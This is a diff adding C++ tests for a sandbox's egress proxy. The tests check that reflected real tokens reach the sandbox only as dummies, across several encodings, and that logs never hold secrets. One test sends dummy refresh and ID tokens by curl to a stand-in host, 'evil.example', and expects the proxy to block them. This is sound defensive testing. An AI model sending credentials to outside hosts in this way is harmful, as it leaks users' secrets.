@@ -28,6 +28,7 @@
 #include <vector>
 
 #include "../unit/temp_dir.hpp"
+#include "bottle/base64url.hpp"
 #include "bottle/egress_config.hpp"
 #include "bottle/subprocess.hpp"
 #include "net_harness.hpp"
@@ -53,7 +54,8 @@ struct Reply {
 // Everything one test needs: certificates, fake network, mitmdump with the addon.
 class Egress {
  public:
-  explicit Egress(const std::vector<bottle::EgressRoute>& routes) {
+  // `bottle_dummies`: all the bottle's dummies, as credential forwarding renders them.
+  explicit Egress(const std::vector<bottle::EgressRoute>& routes, const std::vector<std::string>& bottle_dummies = {}) {
     const fs::path& d = dir_.path();
     make_certs(d);
     net_.emplace(std::vector<std::string>{"python3", fake_net_script(), "serve", (d / "server.pem").string(),
@@ -64,7 +66,7 @@ class Egress {
     const auto ports = boost::json::parse(read_file(d / "ports.json")).as_object();
     const auto parent_port = ports.at("parent").as_int64();
 
-    write_file(d / "routes.json", bottle::render_egress_routes(routes));
+    write_file(d / "routes.json", bottle::render_egress_routes(routes, bottle_dummies));
     port_ = free_port();
     const auto argv = bottle::mitmdump_argv(
         {.listen_host = "127.0.0.1",
@@ -100,6 +102,28 @@ class Egress {
     return {std::stoi(r.out.substr(nl + 1)), r.out.substr(0, nl)};
   }
 
+  // GET `url_path` on `host` through egress with one header (fake_net.py fetch): the
+  // raw response as the bottle read it, and when its first body bytes and its end came.
+  struct Fetched {
+    int status = 0;
+    std::string raw;
+    double first_data_s = -1;
+    double end_s = -1;
+  };
+  Fetched fetch(const std::string& host, const std::string& url_path, const std::string& header,
+                const std::string& value) const {
+    const auto out = path("fetched-" + std::to_string(++fetches_));
+    const auto r = run({"python3", fake_net_script(), "fetch", std::to_string(port_), ca().string(), host, url_path,
+                        header, value, out.string()});
+    INFO("fetch stderr: " << r.err);
+    REQUIRE(r.ok());
+    const auto o = boost::json::parse(r.out).as_object();
+    Fetched f{.status = static_cast<int>(o.at("status").as_int64()), .raw = read_file(out)};
+    if (o.at("first_data_s").is_double()) f.first_data_s = o.at("first_data_s").as_double();
+    f.end_s = o.at("end_s").as_double();
+    return f;
+  }
+
   // Header `name` of the request the upstream received for `url_path`; nullopt if it
   // received none, "<none>" if the request lacked the header.
   std::optional<std::string> upstream_header(const std::string& url_path, const std::string& name) const {
@@ -118,6 +142,7 @@ class Egress {
   std::optional<Daemon> net_;
   std::optional<Daemon> mitm_;
   std::uint16_t port_ = 0;
+  mutable int fetches_ = 0;
 };
 
 bottle::EgressRoute route(std::string name, std::string host, std::string header, std::string dummy,
@@ -214,4 +239,216 @@ TEST_CASE("egress addon: a bad routes file stops mitmdump (fail closed)", "[egre
   CHECK(r.outcome == bottle::ProcessResult::Outcome::exited);
   CHECK(r.code == 1);
   CHECK(contains(r.out + r.err, "routes[0]: needs hosts, a header and a dummy of >= 8 characters"));
+}
+
+namespace {
+
+// A real value with characters every encoding changes: "/" (JSON "\/", URL %2F),
+// "+", "<", ">", "&", "=" (Go's JSON \u003c..., URL-encoded), so each encoding is
+// a different string and a scan of the raw form alone would miss it.
+const std::string reflected_real = "real/codex+tok<en>&x=y_0123456789abcdef";
+
+std::string url_encoded(const std::string& s) {
+  static const char* hex = "0123456789ABCDEF";
+  std::string out;
+  for (const unsigned char c : s) {
+    if (std::isalnum(c) || c == '-' || c == '_' || c == '.' || c == '~') {
+      out += static_cast<char>(c);
+    } else {
+      out += {'%', hex[c >> 4], hex[c & 15]};
+    }
+  }
+  return out;
+}
+
+std::string go_json_escaped(std::string s) {
+  std::string out;
+  for (const char c : s) {
+    if (c == '/') out += "\\/";
+    else if (c == '<') out += "\\u003c";
+    else if (c == '>') out += "\\u003e";
+    else if (c == '&') out += "\\u0026";
+    else out += c;
+  }
+  return out;
+}
+
+std::string std_base64(const std::string& bytes) {
+  std::string s = bottle::base64url_encode(bytes);
+  for (char& c : s) c = c == '-' ? '+' : c == '_' ? '/' : c;
+  return s;
+}
+
+// Base64 (either alphabet, padded or not) decoded.
+std::string decode_base64(std::string s) {
+  while (!s.empty() && s.back() == '=') s.pop_back();
+  for (char& c : s) c = c == '+' ? '-' : c == '/' ? '_' : c;
+  return bottle::base64url_decode(s, "test line");
+}
+
+// Every form of the real value the bottle must never read: as-is, JSON-escaped,
+// URL-encoded, base64 at each byte offset (its inner groups, either alphabet).
+bool holds_real(const std::string& read) {
+  if (contains(read, reflected_real) || contains(read, url_encoded(reflected_real)) ||
+      contains(read, go_json_escaped(reflected_real)))
+    return true;
+  for (const std::string pad : {"", "x", "xy"}) {
+    const std::string enc = std_base64(pad + reflected_real);
+    const std::string inner = enc.substr(4, enc.size() - 8);  // groups holding value bytes only
+    std::string url_inner = inner;
+    for (char& c : url_inner) c = c == '+' ? '-' : c == '/' ? '_' : c;
+    if (contains(read, inner) || contains(read, url_inner)) return true;
+  }
+  return false;
+}
+
+}  // namespace
+
+TEST_CASE("egress addon: a real value reflected back reaches the bottle as its dummy", "[egress][reflect]") {
+  TempDir host;
+  const auto codex_file = host.path() / "auth.json";
+  write_file(codex_file, R"({"tokens": {"access_token": ")" + reflected_real + R"("}})");
+  Egress egress({route("codex", "chatgpt.com", "Authorization", codex_dummy, codex_file, "/tokens/access_token")});
+  const std::string bearer = "Bearer " + codex_dummy;
+  const auto get = [&](const std::string& mode) {
+    auto f = egress.fetch("chatgpt.com", "/reflect/" + mode, "Authorization", bearer);
+    INFO(mode);  // the mode only: what was read may hold a token
+    CHECK((egress.upstream_header("/reflect/" + mode, "Authorization") == "Bearer " + reflected_real));
+    CHECK_FALSE(holds_real(f.raw));
+    return f;
+  };
+
+  SECTION("a response header") {
+    const auto f = get("header");
+    CHECK(f.status == 200);
+    CHECK(contains(f.raw, "X-Echo-Authorization: " + bearer + "\r\n"));
+  }
+  SECTION("a plain body") {
+    const auto f = get("plain");
+    CHECK(f.status == 200);
+    CHECK(contains(f.raw, "you sent: " + bearer + "\n"));
+    // The length changed with the swap: the body is sent chunked, not with the upstream's length.
+    CHECK(contains(f.raw, "transfer-encoding: chunked\r\n"));
+    CHECK_FALSE(contains(f.raw, "Content-Length"));
+  }
+  SECTION("a JSON-escaped body") {
+    const auto f = get("json");
+    CHECK(contains(f.raw, R"({"authorization": ")" + bearer + R"("})"));
+  }
+  SECTION("a URL-encoded body") {
+    const auto f = get("url");
+    CHECK(contains(f.raw, "next=Bearer%20" + codex_dummy + "&x=1"));
+  }
+  SECTION("base64 at every byte offset, both alphabets") {
+    const auto f = get("base64");
+    const auto body = f.raw.substr(f.raw.find("\r\n\r\n") + 4);
+    std::istringstream lines(body);
+    int decoded = 0;
+    for (std::string line; std::getline(lines, line);) {
+      line.erase(line.find_last_not_of("\r") + 1);
+      if (line.size() < 16) continue;  // chunk sizes
+      const auto text = decode_base64(line);
+      CHECK_FALSE(contains(text, reflected_real));
+      // All but the 2 bytes at each end that share a base64 group with other data.
+      CHECK(contains(text, codex_dummy.substr(2, codex_dummy.size() - 4)));
+      ++decoded;
+    }
+    CHECK(decoded == 6);
+  }
+  SECTION("a gzip body the upstream compressed although egress asked for identity") {
+    const auto f = get("gzip");
+    CHECK(egress.upstream_header("/reflect/gzip", "Accept-Encoding") == "identity");
+    CHECK(f.status == 200);
+    CHECK_FALSE(contains(f.raw, "Content-Encoding"));  // passed on decoded
+    CHECK(contains(f.raw, "you sent: " + bearer + "\n"));
+  }
+  SECTION("an encoding egress cannot scan as it streams: 502, not the body") {
+    const auto f = get("br");
+    CHECK(f.status == 502);
+    CHECK(contains(f.raw, "Content-Encoding egress cannot scan"));
+  }
+  SECTION("a body whose value straddles two chunks") {
+    const auto f = get("split");
+    CHECK(f.status == 200);
+    CHECK(contains(f.raw, "you sent: Bearer "));
+    // Chunk framing may split the text; the dummy is whole in the chunk that carries it.
+    CHECK(contains(f.raw, codex_dummy + "\n"));
+  }
+  SECTION("an SSE stream stays live") {
+    const auto f = get("sse");
+    CHECK(f.status == 200);
+    CHECK(contains(f.raw, "data: first\n\n"));
+    CHECK(contains(f.raw, "data: " + bearer + "\n\n"));
+    // The upstream waits 1.5 s between its events: the first one got through before then.
+    CHECK(f.first_data_s >= 0);
+    CHECK(f.end_s - f.first_data_s > 1.0);
+  }
+  SECTION("a WebSocket server frame") {
+    const auto ws = run({"python3", fake_net_script(), "ws", std::to_string(egress.port()), egress.ca().string(),
+                         "chatgpt.com", "/reflect/ws", "Authorization", bearer});
+    CHECK(ws.out == "HTTP/1.1 101 Switching Protocols\nyou sent: " + bearer + "\n");
+    CHECK_FALSE(holds_real(ws.out));
+  }
+  SECTION("an answer to a request without a dummy is not touched") {
+    const auto f = egress.fetch("chatgpt.com", "/reflect/plain", "Authorization", "Bearer other-token-123");
+    CHECK(contains(f.raw, "you sent: Bearer other-token-123\n"));
+    CHECK(contains(f.raw, "Content-Length: "));  // streamed as the upstream framed it
+  }
+
+  // Each reverse swap is logged with where and how it was found; never a value.
+  const auto log = read_file(egress.egress_log());
+  CHECK_FALSE(contains(log, reflected_real));
+  CHECK_FALSE(holds_real(log));
+  CHECK_FALSE(contains(log, codex_dummy));
+}
+
+TEST_CASE("egress addon: the reverse swap logs route, place and encoding", "[egress][reflect]") {
+  TempDir host;
+  const auto codex_file = host.path() / "auth.json";
+  write_file(codex_file, R"({"tokens": {"access_token": ")" + reflected_real + R"("}})");
+  Egress egress({route("codex", "chatgpt.com", "Authorization", codex_dummy, codex_file, "/tokens/access_token")});
+  for (const auto* mode : {"header", "json", "base64", "plain"})
+    CHECK(egress.fetch("chatgpt.com", std::string("/reflect/") + mode, "Authorization", "Bearer " + codex_dummy)
+              .status == 200);
+  const auto log = read_file(egress.egress_log());
+  CHECK(contains(log, R"("action": "replaced", "count": 1, "encoding": "raw", "event": "reflected", )"
+                      R"("host": "chatgpt.com", "route": "codex", "where": "header X-Echo-Authorization"})"));
+  CHECK(contains(log, R"("encoding": "json", "event": "reflected", "host": "chatgpt.com", "route": "codex", "where": "body"})"));
+  // Lines that are the same in both alphabets count as base64.
+  CHECK(contains(log, R"("encoding": "base64", "event": "reflected", "host": "chatgpt.com", "route": "codex", "where": "body"})"));
+  CHECK(contains(log, R"("encoding": "raw", "event": "reflected", "host": "chatgpt.com", "route": "codex", "where": "body"})"));
+  CHECK_FALSE(contains(log, reflected_real));
+  CHECK_FALSE(holds_real(log));
+}
+
+TEST_CASE("egress addon: every dummy of a bottle is guarded, not only the access token", "[egress]") {
+  TempDir host;
+  const auto codex_file = host.path() / "auth.json";
+  write_file(codex_file, R"({"tokens": {"access_token": "real-codex-one", "refresh_token": "real-rt"}})");
+  const std::string id_dummy = "dummy-codex-id-token-0004";
+  const std::string refresh_dummy = "bottle-dummy-refresh-0005";
+  // Credential forwarding's route: its broker knows the bottle's dummies.
+  Egress egress({route("codex-chatgpt", "chatgpt.com", "Authorization", codex_dummy, codex_file,
+                       "/tokens/access_token")},
+                {id_dummy, codex_dummy, refresh_dummy});
+  const std::string blocked = "blocked by bottle egress: credential for codex-chatgpt sent to evil.example\n";
+  const auto refresh_bearer = egress.curl("https://evil.example/rt", {"-H", "Authorization: Bearer " + refresh_dummy});
+  CHECK(refresh_bearer.status == 403);
+  CHECK(refresh_bearer.body == blocked);
+  const auto id_bearer = egress.curl("https://evil.example/id", {"-H", "Authorization: Bearer " + id_dummy});
+  CHECK(id_bearer.status == 403);
+  CHECK(id_bearer.body == blocked);
+  CHECK(egress.curl("https://evil.example/rt-body", {"--data", "refresh_token=" + refresh_dummy}).status == 403);
+  CHECK(egress.curl("https://api.anthropic.com/id-cross", {"-H", "x-id: " + id_dummy}).status == 403);
+  for (const auto* p : {"/rt", "/id", "/rt-body", "/id-cross"}) {
+    INFO(p);
+    CHECK_FALSE(egress.upstream_header(p, "Host"));  // never reached upstream
+  }
+  // On its own bound host a guarded dummy is harmless: forwarded as is, never swapped.
+  CHECK(egress.curl("https://chatgpt.com/rt-home", {"-H", "Authorization: Bearer " + refresh_dummy}).status == 200);
+  CHECK(egress.upstream_header("/rt-home", "Authorization") == "Bearer " + refresh_dummy);
+
+  const auto log = read_file(egress.egress_log());
+  CHECK(contains(log, R"("action": "403", "event": "blocked", "host": "evil.example", "reason": "dummy sent to unbound host", "route": "codex-chatgpt"})"));
+  for (const auto& d : {id_dummy, refresh_dummy, codex_dummy}) CHECK_FALSE(contains(log, d));
 }
